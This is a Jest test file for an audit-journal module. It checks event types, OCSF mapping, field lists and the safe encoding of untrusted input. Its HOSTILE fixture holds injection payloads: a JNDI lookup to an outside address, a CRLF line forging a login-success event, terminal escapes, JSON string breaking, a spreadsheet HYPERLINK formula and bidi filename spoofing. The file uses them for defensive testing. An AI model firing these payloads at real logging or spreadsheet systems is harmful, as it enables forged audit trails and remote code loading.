import { globSync, readFileSync } from 'node:fs';
import { describe, expect, test } from '@jest/globals';
import { journalRow, type JournalEvent } from '../../../lambdas/core/journal.ts';
import { recordText } from '../../../lambdas/core/journal-text.ts';
import { JOURNAL_FIELDS, JOURNAL_TYPE_NAMES, JOURNAL_TYPES, ocsfOf, type JournalField } from '../../../lambdas/core/journal-types.ts';

const AT = Date.parse('2026-11-25T12:00:00.123Z');

describe('the table of types (S22.1)', () => {
  const written = globSync('lambdas/**/*.ts')
    .filter((path) => path !== 'lambdas/core/journal-types.ts')
    .map((path) => readFileSync(path, 'utf8'))
    .join('\n')
    // The two lists of addresses are one rule.
    .replaceAll('`${list}list_changed`', "'allowlist_changed' 'blocklist_changed'");

  test('has no type that nothing writes; one that is not in it does not compile', () => {
    expect(JOURNAL_TYPE_NAMES.filter((type) => !written.includes(`'${type}'`))).toEqual([]);
  });

  test.each(JOURNAL_TYPE_NAMES)('%s fits its field, says what happened, and has a class, an activity and a severity in OCSF', (type) => {
    expect(type).toMatch(/^[a-z]+(?:_[a-z]+)+$/);
    expect(type.length).toBeLessThanOrEqual(JOURNAL_FIELDS.type.max);
    expect(JOURNAL_TYPES[type].says).toMatch(/^[A-Z].{10,100}\.$/);
    const { classUid, activityId, severityId } = ocsfOf(type);
    expect([2004, 3001, 3002, 3004, 3005, 6003]).toContain(classUid);
    expect(activityId).toBeGreaterThan(0);
    expect(severityId).toBeGreaterThan(0);
  });

  test('stands in the order of the alphabet, each once', () => {
    expect(JOURNAL_TYPE_NAMES).toEqual([...new Set(JOURNAL_TYPE_NAMES)].toSorted());
  });
});

/** Lengths of the fields of a row; of the actor the longer of its members. */
const lengths = (row: object): [string, number][] =>
  Object.entries(row).map(([field, value]) => [
    field,
    typeof value === 'object' ? Math.max(...Object.values(value as object).map((one) => String(one).length)) : String(value).length,
  ]);

describe('an event (S22.3)', () => {
  const event: JournalEvent = {
    type: 'authz_change',
    outcome: 'done',
    accountId: '0199c3a0-7000-7000-8000-00000000000a',
    actor: { kind: 'session', id: '0199c3a0-7000-7000-8000-00000000000b' },
    action: 'changeRole',
    target: '0199c3a0-7000-7000-8000-00000000000c',
    change: 'member -> admin',
    reason: 'because',
    address: '192.0.2.7',
    agent: 'Test/1.0',
    requestId: '6d0c5a1e-1c0f-4b1c-9c51-8d9f0d2b7e11',
  };

  test('has every field of the list and no other, with its moment in milliseconds of UTC', () => {
    const row = journalRow({ ...event, body: 'a secret', headers: { cookie: 'x' } } as JournalEvent, AT);

    expect(Object.keys(row).toSorted()).toEqual(Object.keys(JOURNAL_FIELDS).toSorted());
    expect(row).toEqual({ ...event, at: '2026-11-25T12:00:00.123Z' });
  });

  test('has what every event must have even where nothing is known', () => {
    const row = journalRow({ type: 'authn_fail', outcome: 'refused', action: '-', requestId: 'r' }, AT);

    const always = Object.entries(JOURNAL_FIELDS).flatMap(([field, rule]) => ('always' in rule ? [field as JournalField] : []));
    expect(always.filter((field) => row[field] === undefined)).toEqual([]);
  });

  const HOSTILE = {
    'line ends': 'a\r\n{"journal":{"type":"authn_login_success"}}',
    'escapes of a terminal': 'a\u001b[2J\u001b]0;owned\u0007',
    'the end of a string': 'a","outcome":"done","x":"\\',
    'a look-up': '${jndi:ldap://203.0.113.9/a}',
    'a megabyte': 'A'.repeat(1_048_576),
    'text turned around': 'exe.\u202etxt\u2066\u200f',
    'line ends of Unicode': 'a\u2028b\u2029c\u0085d',
    'half a character': 'a\ud800b\udc00',
    'a formula': "=HYPERLINK('http://203.0.113.9')",
  };

  test.each(Object.entries(HOSTILE))('with %s in every field is one record, encoded and cut (S22.4)', (_name, text) => {
    const hostile = Object.fromEntries(['accountId', 'action', 'target', 'change', 'reason', 'address', 'agent', 'requestId'].map((field) => [field, text]));
    const row = journalRow({ ...event, ...hostile, actor: { kind: 'visitor', id: text } }, AT);

    for (const [field, length] of lengths(row)) expect([field, length]).toEqual([field, Math.min(length, JOURNAL_FIELDS[field as JournalField].max)]);
    const line = JSON.stringify(row);
    expect(line).toMatch(/^[\x20-\x7e]+$/);
    expect(line).not.toContain('${');
    expect(JSON.parse(line)).toEqual(row);
    expect(row.type).toBe('authz_change');
  });

  test('says what was sent: the encoding can be read back, and nothing that was sent looks like it', () => {
    const decode = (text: string): string => text.replaceAll(/\\u\{([0-9a-f]+)\}/g, (_escape, hex: string) => String.fromCodePoint(parseInt(hex, 16)));

    for (const text of [HOSTILE['line ends'], HOSTILE['a look-up'], HOSTILE['the end of a string'], '\\u{41}', 'é€😀'])
      expect(decode(recordText(text, 1_000) ?? '')).toBe(text);
    expect(recordText('\\u{41}', 100)).toBe('\\u{5c}u{41}');
  });

  test('is never cut inside an escape', () => {
    for (let max = 1; max < 24; max += 1) expect(recordText('ab\n\u202ecd', max)).toMatch(/^(?:[^\\]|\\u\{[0-9a-f]+\})*$/);
  });
});
